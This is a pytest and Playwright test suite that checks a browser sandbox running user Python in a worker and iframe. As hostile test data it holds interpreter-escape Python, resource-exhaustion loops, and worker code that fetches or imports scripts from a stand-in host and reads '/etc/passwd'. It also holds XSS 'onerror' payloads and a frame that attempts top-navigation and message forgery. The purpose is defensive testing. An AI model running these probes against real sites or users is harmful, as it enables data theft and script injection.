"""Code that wants out of its sandbox, in real browsers on file://: as Python, as the worker, as the frame.

Each room is taken over in turn: first the interpreter by hostile Python, then the worker around it by hostile
JavaScript, then the frame around that. Whatever stands outside of the room goes on as if nothing were.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import Opener, Watched
from editing import edit, run, write
from playwright.sync_api import Locator, Page

import gdsim

PAGE = """\
::: animation rates
views: [fit, loss]
caption: c
:::

::: python
player: rates

print('hello')
:::
"""
CONTENT = {
    "site.yaml": "title: Small\n",
    "index.md": PAGE,
    "sweeps/rates.yaml": "dataset: clean-linear\nlearning_rate: [5e-5]\nepochs: 12\nscenes: [fit]\n",
}
SCRIPT = re.compile(r"<script>(.*)</script>", re.DOTALL)


@pytest.fixture(scope="session")
def sandbox_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page with a player and a listing for it."""
    root = tmp_path_factory.mktemp("sandbox")
    for name, text in CONTENT.items():
        (root / "content" / name).parent.mkdir(parents=True, exist_ok=True)
        (root / "content" / name).write_text(text, encoding="utf-8")
    gdsim.build(root / "content", executor="inline", media=False)
    return root / "site"


@pytest.fixture
def visit(open_page: Opener) -> Iterator[object]:
    """Opens a site; afterwards the page is where it was, has asked nobody and opened no window."""
    visited: list[Watched] = []
    stopped: list[str] = []

    def open_(site: Path) -> Page:
        visited.append(open_page((site / "index.html").as_uri()))
        page = visited[-1].page
        page.on("requestfailed", lambda asked: stopped.append(asked.url) if asked.failure == "csp" else None)
        return page

    yield open_
    for watched in visited:
        assert sorted(watched.outside) == sorted(stopped)  # what the policy stops never leaves
        assert watched.page.url.startswith("file:")
        assert watched.page.evaluate("window.caught") is None
        assert len(watched.page.context.pages) == 1


def said_of(page: Page, box: Locator, code: str) -> str:
    """Runs the code; what the editor says in the end."""
    write(page, box, code)
    return run(box)


def printed(box: Locator) -> str:
    return box.locator(".gdsim-console").text_content() or ""


def assert_well(page: Page, box: Locator) -> None:
    """The next run is as good as the first, and the player still shows its own run."""
    assert said_of(page, box, "print(6 * 7)").startswith("Done.")
    assert printed(box) == "42\n"
    assert page.evaluate("gdsim.players[0].trajectory.optimizer") != {"name": "your code"}


DOOR = "import builtins\n{0} = builtins.__import__('{0}')\n"
ANSWER = (
    "import sys\nclass json:\n    @staticmethod\n    def dump(answer, file):\n        file.write({!r})\n"
    "sys.modules['harness'].json = json\n"
)
# What is said in the end, by what the code tries.
PYTHON = {
    "a loop that catches all": (
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass\n",
        "longer than 2 seconds",
    ),
    "recursion that catches all": (
        "def f():\n    try:\n        f()\n    except BaseException:\n        f()\nf()\n",
        "longer than 2 seconds|recursion|broke down",
    ),
    "a loop in what ends": (
        "try:\n    raise SystemExit\nfinally:\n    while True:\n        pass\n", "longer than 2 seconds",
    ),
    "sleep": ("import time\ntime.sleep(1000)\n", "longer than 2 seconds|line 2"),
    "memory, caught": (
        "a = []\nwhile True:\n    try:\n        a.append(bytearray(1 << 20))\n"
        "    except MemoryError:\n        pass\n",
        "longer than 2 seconds|broke down",
    ),
    "text that doubles": ("a = 'x'\nwhile True:\n    a += a\n", "MemoryError"),
    "huge numbers": ("a = 3\nwhile True:\n    a = a * a\n", "longer than 2 seconds|MemoryError|broke down"),
    "output, caught": (
        "while True:\n    try:\n        print('x' * 10000)\n    except BaseException:\n        pass\n",
        "printed more than|longer than 2 seconds",
    ),
    "output of a line": ("print('x' * 5_000_000)\n", "printed more than|longer than 2 seconds"),
    "output without end of line": (
        "import sys\nwhile True:\n    sys.stdout.write('\\u202e\\x1b[2J')\n", "printed more than|longer than"
    ),
    "questions": ("input('your password: ')\n", "longer than 2 seconds|line 1|Done"),
    "memory of the interpreter": (
        DOOR.format("uctypes") + "room = uctypes.bytearray_at(0, 60_000_000)\n"
        "for place in range(0, 60_000_000, 3):\n    room[place] = 255\n",
        "broke down|longer than 2 seconds|line",
    ),
    "Python in JavaScript's hands": (DOOR.format("jsffi") + "jsffi.create_proxy(print)\n", "broke down"),
    "a list in JavaScript's hands": (DOOR.format("jsffi") + "jsffi.to_js([1]).constructor\n", "broke down"),
    "names of JavaScript": (DOOR.format("js") + "js.caught = 1\n", "broke down|line 3"),
    "a class of the interpreter": (
        DOOR.format("jsffi") + "jsffi.JsProxy().constructor\n", "broke down|line 3",
    ),
    "an answer of its own": (ANSWER.format('{"__proto__": {"epochs": 1}, "drawn": 1}'), "broke down"),
    "an answer that is none": (ANSWER.format("["), "broke down"),
    "an answer of odd names": (ANSWER.format('{"error": "__proto__"}'), "broke down"),
    "a path of odd length": (
        ANSWER.format('{"epochs": 3}') + "open('/page/path.bin', 'wb').write(b'12345')\n", "broke down",
    ),
    "a path without end": (
        ANSWER.format('{"epochs": 3}') + "open('/page/path.bin', 'wb').write(bytes(16 * 100_002))\n",
        "broke down",
    ),
    "an error that is markup": (
        "class E(Exception):\n    pass\nraise E('<img src=x onerror=window.caught=1>')\n", "line 3: E: <img",
    ),
    "an error without end": ("raise ValueError('x' * 100_000)\n", "line 1: ValueError: x"),
}  # fmt: skip


def test_hostile_python_ends_in_words(sandbox_site: Path, visit) -> None:
    """Each is told in words of its own, and the next run is as good as the first."""
    page = visit(sandbox_site)
    box = edit(page)
    wrong = {}
    for kind, (code, words) in PYTHON.items():
        said = said_of(page, box, code)
        if not re.search(words, said) or len(printed(box)) > 210_000:
            wrong[kind] = (said, printed(box)[:200])
        assert_well(page, box)
    assert wrong == {}


def test_python_finds_nothing_of_javascript(sandbox_site: Path, visit) -> None:
    """Every name of the worker's scope and of all it inherits from, asked of the forced-open module."""
    page = visit(sandbox_site)
    names = page.evaluate(
        """() => {
          const names = new Set(["self", "globalThis", "postMessage", "importScripts", "WorkerGlobalScope",
                                 "DedicatedWorkerGlobalScope", "__proto__", "constructor"]);
          for (let scope = window; scope; scope = Object.getPrototypeOf(scope)) {
            for (const name of Object.getOwnPropertyNames(scope)) names.add(name);
          }
          return [...names];
        }"""
    )
    assert {"fetch", "Function", "Uint8Array", "eval"} <= set(names)
    box = edit(page)
    code = DOOR.format("js") + f"names = {json.dumps(names)}\n"
    code += (
        "found = []\nfor name in names:\n    try:\n        getattr(js, name)\n        found.append(name)\n"
    )
    code += "    except AttributeError:\n        pass\nprint(len(names), found)\n"
    assert said_of(page, box, code).startswith("Done.")
    assert printed(box) == f"{len(names)} []\n"


PAIRS = (
    "(float('nan'), 0)",
    "(float('inf'), float('-inf'))",
    "(1e308, -1e308)",
    "(-w * 1e150 - 1, 5e-324)",
)
POINTS = "DATA_X = [-{0}, {0}, 5e-324]\nDATA_Y = [{0}, -{0}, 0]\n"


def test_any_numbers_are_shown_by_the_player(sandbox_site: Path, visit) -> None:
    page = visit(sandbox_site)
    box = edit(page)
    for points in ("", POINTS.format("1e70")):
        for pair in PAIRS:
            said = said_of(page, box, f"{points}def step(w, b, learning_rate):\n    return {pair}\n")
            assert re.search("shown in the player", said), (points, pair, said)
            page.evaluate("gdsim.players[0].seek(1)")
    said = said_of(page, box, POINTS.format("1e308") + "def step(w, b, learning_rate):\n    return w, b\n")
    assert "must hold numbers within ±1e70" in said
    assert said_of(page, box, "print(6 * 7)").startswith("Done.")


def taken_over(site: Path, folder: Path, *, worker: str = "", frame: str = "") -> Path:
    """The site with a hostile worker or a hostile frame; the policy of the frame's page stays."""
    shutil.copytree(site, folder / "site")
    (path,) = (folder / "site").rglob("runner.*.html")
    page = path.read_text("utf-8")
    found = SCRIPT.search(page)
    assert found
    script = found[1]
    if worker:
        begin = len("const PACKED=")
        packed, end = json.JSONDecoder().raw_decode(script, begin)
        packed["worker"] = worker
        script = script[:begin] + json.dumps(packed).replace("<", "\\u003c") + script[end:]
    else:
        script = frame
    assert "</" not in script.replace("<\\/", "")
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    page = page.replace(found[1], script)
    page, changed = re.subn(r"'sha256-[^']+'", f"'sha256-{digest}'", page, count=1)
    assert changed == 1
    path.write_text(page, encoding="utf-8")
    return folder / "site"


# A worker that is up at once, and at the first request does its worst.
WORKER = """
onmessage = async ({data}) => {
  if (data.parts) return postMessage({type: "up"});
  const say = (text) => postMessage({type: "output", text: text + "\\n"});
  %s
};
"""
PRIMES = """
  const tries = {
    fetch: () => fetch("https://outside.example/"),
    "a file": () => fetch("file:///etc/passwd").then((reply) => reply.text()),
    XMLHttpRequest: () => new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = done; request.onerror = failed;
      request.open("GET", "https://outside.example/"); request.send();
    }),
    WebSocket: () => new Promise((done, failed) => {
      const socket = new WebSocket("wss://outside.example/");
      socket.onopen = done; socket.onerror = failed;
    }),
    EventSource: () => new Promise((done, failed) => {
      const source = new EventSource("https://outside.example/");
      source.onopen = done; source.onerror = failed;
    }),
    importScripts: () => importScripts("https://outside.example/x.js"),
    import: () => import("https://outside.example/x.js"),
    data: () => import("data:text/javascript,1"),
    eval: () => eval("1"),
    Function: () => new Function("return 1")(),
    Worker: () => new Promise((done, failed) => {
      const worker = new Worker("https://outside.example/x.js");
      worker.onmessage = done; worker.onerror = failed;
    }),
    indexedDB: () => new Promise((done, failed) => {
      const request = indexedDB.open("x");
      request.onsuccess = done; request.onerror = failed;
    }),
    caches: () => caches.open("x"),
    files: () => navigator.storage.getDirectory(),
    parent: () => parent.document.title,
    storage: () => localStorage.length,
    cookies: () => cookieStore.getAll(),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); say(`GOT ${name}`); } catch (error) { say(`no ${name}`); }
  }
  say("tried");
  postMessage({type: "answer", answer: {error: null, path: null, drawn: null}});
"""


def test_a_taken_worker_reaches_no_network_storage_or_page(sandbox_site: Path, visit, tmp_path: Path) -> None:
    page = visit(taken_over(sandbox_site, tmp_path, worker=WORKER % PRIMES))
    box = edit(page)
    assert said_of(page, box, "1").startswith("Done.")
    assert printed(box).endswith("tried\n")
    assert "GOT" not in printed(box), printed(box)
    assert printed(box).count("no ") == 17


TORMENTS = {
    "a flood of messages": "for (let number = 0; number < 50_000; number++) postMessage(0); for (;;);",
    "output without end": 'for (;;) say("x".repeat(1000));',
    "large messages without end": "for (;;) postMessage(new ArrayBuffer(1 << 20));",
    "workers that never end": """
      const code = URL.createObjectURL(new Blob(["for (;;);"]));
      for (let number = 0; number < 8; number++) new Worker(code);
      for (;;);""",
    "promises without end": "const again = () => Promise.resolve().then(again); again();",
    "timers without end": "const again = () => { setTimeout(again); setTimeout(again); }; again();",
    "nothing at all": "",
    "an end of its own": "close();",
    "an error": "throw new Error('<img src=x onerror=window.caught=1>');",
}


@pytest.mark.parametrize("kind", TORMENTS)
def test_a_taken_worker_is_ended_and_the_page_lives_on(
    sandbox_site: Path, visit, tmp_path: Path, kind: str
) -> None:
    """Ended in words; another listing's run starts at once, and the page answers."""
    page = visit(taken_over(sandbox_site, tmp_path, worker=WORKER % TORMENTS[kind]))
    box = edit(page)
    for _ in range(2):
        assert said_of(page, box, "1").startswith("Ended: ")
        assert len(printed(box)) <= 201_000
        page.evaluate("gdsim.players[0].seek(3)")


MARKUP = "<img src=x onerror=window.caught=1>"
FORGERIES = {
    "answers": [
        None, 1, "x", [], {}, {"error": {}}, {"error": None, "path": {"w": [1], "b": []}, "drawn": None},
        {"error": None, "path": {"w": ["<b>"], "b": [1]}, "drawn": None},
        {"error": None, "path": {"w": [1], "b": [{}]}, "drawn": None},
        {"error": None, "path": [[1], [1]], "drawn": None},
        {"error": None, "path": {"w": [0] * 100_002, "b": [0] * 100_002}, "drawn": None},
        {"error": None, "path": {"w": [1, 2], "b": [1, 2]}, "drawn": {"x": [None], "y": [1]}},
        {"error": {"kind": 1, "message": "", "line": 1, "trace": ""}, "path": None, "drawn": None},
        {"error": {"kind": "", "message": "", "line": 1.5, "trace": ""}, "path": None, "drawn": None},
        {"error": {"kind": "", "message": [MARKUP], "line": 1, "trace": ""}, "path": None, "drawn": None},
    ],
    "errors": [
        {"kind": MARKUP, "message": MARKUP, "line": line, "trace": MARKUP}
        for line in (0, 1, -1, 10**9, 2**53 - 1)
    ],
}  # fmt: skip


def test_forged_answers_of_a_taken_worker_are_dropped(sandbox_site: Path, visit, tmp_path: Path) -> None:
    """One at a run."""
    answers = json.dumps(FORGERIES["answers"])
    worker = WORKER % f"postMessage({{type: 'answer', answer: ({answers})[data.request.epochs - 1]}});"
    page = visit(taken_over(sandbox_site, tmp_path, worker=worker))
    box = edit(page)
    before = page.evaluate("JSON.stringify(gdsim.players[0].trajectory.path)")
    for number in range(len(FORGERIES["answers"])):
        box.get_by_label("epochs").fill(str(number + 1))
        assert "broke down" in said_of(page, box, "1"), FORGERIES["answers"][number]
    assert page.evaluate("JSON.stringify(gdsim.players[0].trajectory.path)") == before


def test_forged_errors_of_a_taken_worker_are_text(sandbox_site: Path, visit, tmp_path: Path) -> None:
    errors = json.dumps([{"error": error, "path": None, "drawn": None} for error in FORGERIES["errors"]])
    worker = WORKER % f"postMessage({{type: 'answer', answer: ({errors})[data.request.epochs - 1]}});"
    page = visit(taken_over(sandbox_site, tmp_path, worker=worker.replace("<", "\\x3c")))
    box = edit(page)
    for number in range(len(FORGERIES["errors"])):
        box.get_by_label("epochs").fill(str(number + 1))
        assert MARKUP in said_of(page, box, "1\n2\n"), number
        assert MARKUP in printed(box)
        assert box.locator("img").count() == 0


FRAME = """
const tries = {
  "the page": () => parent.document.body,
  "its scripts": () => parent.gdsim,
  "its storage": () => parent.localStorage,
  storage: () => localStorage.length,
  cookies: () => document.cookie,
  window: () => { if (!open("about:blank")) throw 0; },
};
const heard = [];
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); heard.push(`GOT ${name}`); } catch { heard.push(`no ${name}`); }
}
try { top.location = "about:blank"; } catch {}
try { top.location.replace("javascript:window.caught=1"); } catch {}
try { alert(1); confirm(1); prompt(1); print(); } catch {}
const link = document.createElement("a");
link.href = "about:blank"; link.target = "_top";
document.body?.append(link); link.click();
const tell = (message) => parent.postMessage(message, "*");
tell({type: "ready"});
addEventListener("message", ({data}) => {
  if (data.type !== "run") return;
  for (const odd of [null, 1, "x", [], {}]) tell(odd);
  for (const type of ["__proto__", "constructor", "toString", null, {}]) tell({type});
  tell({type: "started"}); tell({type: "started"}); tell({type: "ready"});
  let deep = [];
  for (let number = 0; number < 500; number++) deep = [deep];
  for (const text of [1, null, {}, deep, ["<img>"]]) tell({type: "output", text});
  tell({type: "output", text: heard.join("; ") + "<img src=x onerror=window.caught=1>"});
  tell({type: "output", text: "x".repeat(3000000)});
  tell(ENDINGS[data.request.epochs - 1]);
});
"""
ENDINGS = [
    '{type: "ended", why: "__proto__"}', '{type: "ended", why: "constructor"}', '{type: "ended", why: [1]}',
    '{type: "ended"}', '{type: "answer"}', '{type: "answer", answer: {__proto__: {error: null, path: null}}}',
]  # fmt: skip


def test_a_taken_frame_reaches_nothing_of_the_page(sandbox_site: Path, visit, tmp_path: Path) -> None:
    """It has no origin, opens and moves no window; what it tells is checked as what it passes on is."""
    page = visit(
        taken_over(sandbox_site, tmp_path, frame=FRAME.replace("ENDINGS", f"[{', '.join(ENDINGS)}]"))
    )
    box = edit(page)
    for number, ending in enumerate(ENDINGS):
        box.get_by_label("epochs").fill(str(number + 1))
        assert "broke down" in said_of(page, box, "1"), ending
        said = printed(box)
        assert "GOT" not in said, said[:500]
        assert said.count("no ") == 6, said[:500]
        assert len(said) <= 201_000
        assert box.locator("img").count() == 0
    assert page.url.endswith("index.html")


def test_messages_of_other_windows_are_not_the_sandboxs(sandbox_site: Path, visit) -> None:
    """The page itself, and a frame that stands beside, forge what the sandbox would say."""
    page = visit(sandbox_site)
    box = edit(page)
    page.evaluate(
        """() => {
          const forge = () => {
            for (const window of [globalThis, ...[...frames].slice(1)]) {
              window.parent.postMessage({type: "output", text: "forged"}, "*");
              window.parent.postMessage({type: "ended", why: "stopped"}, "*");
              const answer = {error: null, path: null, drawn: null};
              window.parent.postMessage({type: "answer", answer}, "*");
            }
          };
          setInterval(forge, 5);
          const sandbox = document.querySelector("iframe").contentWindow;
          const beside = document.createElement("iframe");
          document.body.append(beside);
          setInterval(() => sandbox.postMessage({type: "forged"}, "*"), 5);
        }"""
    )
    said = said_of(page, box, "for number in range(200000):\n    pass\nprint('mine')\n")
    assert said.startswith("Done.")
    assert printed(box) == "mine\n"
